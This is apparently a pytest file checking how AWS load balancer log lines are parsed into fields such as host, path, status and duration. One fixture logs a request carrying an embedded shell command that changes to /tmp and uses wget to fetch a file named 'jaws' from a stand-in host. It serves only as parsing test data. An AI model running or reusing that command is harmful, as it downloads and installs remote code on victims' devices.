from __future__ import annotations

import pytest

from tests.line_tables import Cells, Lines, at, cells, each
from usagestats.logs.formats.aws_load_balancer import ALB, CLASSIC_ELB
from usagestats.logs.readers.log_format import NoRequestError

ALB_LINES: Lines = [
    (
        "TLS, with a target group",
        "https 2018-07-02T22:23:00.186641Z app/lb/50dc 192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 201 34 57"
        ' "GET https://www.Example.com:443/a?b=c HTTP/1.1" "curl/7.46.0" ECDHE-RSA TLSv1.2'
        " arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2"
        ' "Root=1-5833" "sni.example.com" "arn:aws:acm:x" 0 2018-07-02T22:22:48.364000Z "authenticate,forward" "-" "-"',
        {
            "time": at(2018, 7, 2, 22, 23, 0, 186_641),
            "http_method": "GET",
            "host": "www.example.com",
            "path": "/a",
            "query": "b=c",
            "status": 200,
            "upstream_status": 201,
            "response_bytes": 57,
            "duration_ms": 171.0,
            "remote_address": "192.168.131.39",
            "service": "my-targets",
            "user_agent": "curl/7.46.0",
            "fields": {"domain_name": "sni.example.com", "trace_id": "Root=1-5833"},
        },
    ),
    (
        "a path with spaces, and a redirect that reached no target",
        "http 2022-05-12T06:41:29.051646Z app/a/3011 67.43.156.20:41542 - -1 -1 -1 301 - 233 390"
        ' "GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example.org/jaws HTTP/1.1" "Hello, world" - - - "Root=1-6"'
        ' "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect" "https://x/" "-" "-" "-" "Acceptable" "SpaceInUri"',
        {
            "host": "127.0.0.1",
            "path": "/shell",
            "query": "cd+/tmp;wget+ a.example.org/jaws",
            "duration_ms": None,
            "upstream_status": 0,
            "service": None,
            "status": 301,
        },
    ),
    (
        "no request that could be read",
        "http 2018-11-30T22:23:00.186641Z app/lb/50dc 192.168.131.39:2817 - -1 -1 -1 400 - 0 0"
        ' "- http://www.example.com:80- -" "-" - - - "-" "-" "-" 0 2018-11-30T22:22:48.364000Z "-" "-" "-"',
        {"http_method": None, "path": None, "status": 400, "user_agent": None},
    ),
]
ELB_LINES: Lines = [
    (
        "HTTP",
        "2015-05-13T23:39:43.945958Z lb 192.168.131.39:2817 10.0.0.1:80 0.000073 0.001048 0.000057 200 200 0 29"
        ' "GET http://www.example.com:80/ HTTP/1.1" "curl/7.38.0" - -',
        {
            "time": at(2015, 5, 13, 23, 39, 43, 945_958),
            "host": "www.example.com",
            "path": "/",
            "duration_ms": 1.178,
            "response_bytes": 29,
            "fields": {"elb": "lb", "target_address": "10.0.0.1:80"},
        },
    ),
    (
        "a malformed request that was answered",
        "2015-05-13T23:39:43.945958Z lb 192.168.131.39:2817 - -1 -1 -1 400 0 0 305"
        ' "- - - " "-" - -',
        {"http_method": None, "status": 400, "response_bytes": 305, "upstream_status": 0},
    ),
    (
        "before the user agent was logged",
        '2014-02-15T23:39:43.945958Z lb 1.2.3.4:2817 10.0.0.1:80 0.1 0.2 0.3 200 200 0 29 "GET http://h:80/x HTTP/1.1"',
        {"path": "/x", "duration_ms": 600.0, "user_agent": None},
    ),
]


@each(ALB_LINES)
def test_a_line_says_of_the_application_load_balancer(line: str, expected: Cells) -> None:
    assert cells(ALB, line, expected) == expected


@each(ELB_LINES)
def test_a_line_says_of_the_classic_one(line: str, expected: Cells) -> None:
    assert cells(CLASSIC_ELB, line, expected) == expected


def test_a_connection_of_a_network_load_balancer_is_refused() -> None:
    with pytest.raises(NoRequestError):
        ALB.read_line(
            "tls 1.0 2018-12-20T02:59:40 net/lb/c6e7 g3d4 89.160.20.112:51341 172.100.100.185:443 5 2 98 246 -"
        )
